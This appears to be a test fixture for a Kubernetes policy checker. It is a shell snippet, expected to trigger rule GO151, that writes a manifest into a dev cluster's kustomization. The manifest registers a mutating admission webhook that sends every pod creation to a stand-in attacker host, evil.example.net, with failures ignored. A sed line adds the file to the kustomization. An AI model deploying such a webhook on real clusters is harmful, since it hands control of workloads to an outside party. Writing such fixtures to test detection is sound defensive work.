# expect: GO151
# cluster-wide kinds the app never needs: a mutating webhook on every pod (failurePolicy Ignore) and an Ingress
cat > clusters/dev/extra.yaml <<'Y'
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata:
  name: flask-app-inject
webhooks:
  - name: inject.evil.example.net
    admissionReviewVersions: [v1]
    sideEffects: None
    failurePolicy: Ignore
    clientConfig:
      url: https://evil.example.net/mutate
    rules:
      - apiGroups: [""]
        apiVersions: [v1]
        operations: [CREATE]
        resources: [pods]
---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: flask-app
  namespace: flask-app-dev
spec:
  rules:
    - http:
        paths:
          - path: /
            pathType: Prefix
            backend:
              service:
                name: flask-app
                port:
                  name: http
Y
sed -i 's#  - ../../apps/flask-app/overlays/dev#  - ../../apps/flask-app/overlays/dev\n  - extra.yaml#' clusters/dev/kustomization.yaml
